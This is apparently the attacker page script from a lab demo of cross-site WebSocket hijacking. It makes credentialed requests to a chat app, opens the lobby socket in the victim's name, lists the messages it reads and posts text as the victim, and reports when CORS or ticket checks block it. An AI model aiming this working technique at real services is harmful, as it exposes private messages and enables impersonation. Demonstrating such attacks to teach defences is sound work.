const part = (id) => document.getElementById(id);
const { chat } = document.body.dataset;
const loot = part("loot");
const stolen = part("stolen");
const write = part("write");

let socket;

part("origin").textContent = location.origin;

function outcome(id, verdict, text) {
  const line = part(id).querySelector(".outcome");
  line.className = `outcome ${verdict}`;
  line.textContent = text;
}

function verdict(kind, text) {
  loot.className = `loot ${kind}`;
  part("verdict").textContent = text;
}

function showStolen(text) {
  const item = document.createElement("li");
  item.textContent = text;
  stolen.append(item);
  stolen.hidden = false;
  stolen.scrollTop = stolen.scrollHeight;
}

async function tryHttp() {
  try {
    const response = await fetch(`${chat}/api/me`, { credentials: "include" });
    outcome("http", "taken", `Read: ${await response.text()}`);
  } catch {
    outcome("http", "safe", "The request went out, but CORS keeps the answer from this page.");
  }
}

async function tryTicket() {
  try {
    const response = await fetch(`${chat}/api/ticket`, { method: "POST", credentials: "include" });
    outcome("ticket", "taken", `Read: ${await response.text()}`);
  } catch {
    outcome(
      "ticket",
      "safe",
      "None was issued: the chat gives tickets to its own page only. CORS keeps even that answer from this page.",
    );
  }
}

function tryWebSocket() {
  const mine = new WebSocket(`${chat.replace(/^http/, "ws")}/chat/lobby`);
  let opened = false;
  socket = mine;
  mine.addEventListener("open", () => {
    opened = true;
    outcome("websocket", "taken", "Open. The server takes this page for you.");
  });
  mine.addEventListener("message", ({ data }) => {
    if (socket === mine) receive(JSON.parse(data));
  });
  mine.addEventListener("close", ({ code }) => {
    if (socket !== mine) return;
    write.hidden = true;
    if (opened) return outcome("websocket", "taken", `It was open, and closed again (${code}).`);
    outcome("websocket", "safe", `Refused before it opened. All that this page is told: ${code}.`);
    verdict("safe", "Nothing: neither your name nor a single message.");
  });
}

function receive(event) {
  if (event.type === "welcome") {
    verdict("taken", `You are ${event.you}. Everything in the lobby can be read, and written in your name.`);
    for (const { name, text } of event.messages) showStolen(`${name}: ${text}`);
    write.textContent = `Write as ${event.you}`;
    write.hidden = false;
  } else if (event.type === "message") showStolen(`${event.name}: ${event.text}`);
}

function attack() {
  const old = socket;
  socket = undefined;
  old?.close();
  stolen.replaceChildren();
  stolen.hidden = true;
  write.hidden = true;
  verdict("", "\u2026");
  void tryHttp();
  void tryTicket();
  tryWebSocket();
}

part("again").addEventListener("click", attack);
write.addEventListener("click", () => {
  socket.send(JSON.stringify({ text: `This was not written by me, but by ${location.origin}.` }));
});

attack();
